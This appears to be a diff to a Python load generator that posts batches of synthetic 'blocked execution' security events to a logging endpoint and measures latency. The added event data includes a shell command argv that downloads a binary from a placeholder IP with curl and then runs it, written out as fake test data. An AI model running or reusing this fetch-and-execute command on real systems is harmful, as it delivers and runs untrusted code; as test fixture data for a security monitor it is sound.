@@ -1,5 +1,9 @@
-"""Posts batches at a fixed rate (events/s) from N threads and prints batch latency p50/p99 (ms)."""
+"""Posts batches at a fixed rate (events/s) from N threads and prints batch latency p50/p99 (ms).
+The events are shaped as post.lua's (the same functions, reasons and text), so that the store the
+queries meet afterwards is one mix whatever phase wrote it."""
 import http.client, json, os, sys, threading, time
+FUNCTIONS = ["api", "worker", "cron", "checkout", "images", "search", "billing", "auth"]
+REASONS = ["drift", "blocklist", "honeypot", "not_allowlisted", "interpreter_script"]
 
 host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
 rate, seconds, threads, batch = float(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6]), 100
@@ -17,8 +21,12 @@ def client(n):
         events = []
         for _ in range(batch):
             seq += 1
+            reason = REASONS[seq % len(REASONS)]
             events.append({"time": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()), "mode": "enforce", "action": "blocked",
-                           "reason": "drift", "executable": "/tmp/m", "argv": ["/tmp/m"], "function_name": "paced%d" % n,
+                           "reason": reason, "reasons": [reason], "executable": "/tmp/x%d" % (seq % 97),
+                           "argv": ["/bin/sh", "-c", "curl -o /tmp/m http://203.0.113.9/m%d && /tmp/m" % seq],
+                           "function_name": FUNCTIONS[seq % len(FUNCTIONS)], "region": "eu-west-1", "account_id": "123456789012",
+                           "request_id": "r-paced-%d-%d-%d" % (os.getpid(), n, seq),
                            "instance_id": "paced-%d-%d" % (os.getpid(), n), "seq": seq})
         body = json.dumps(events)
         start = time.perf_counter()
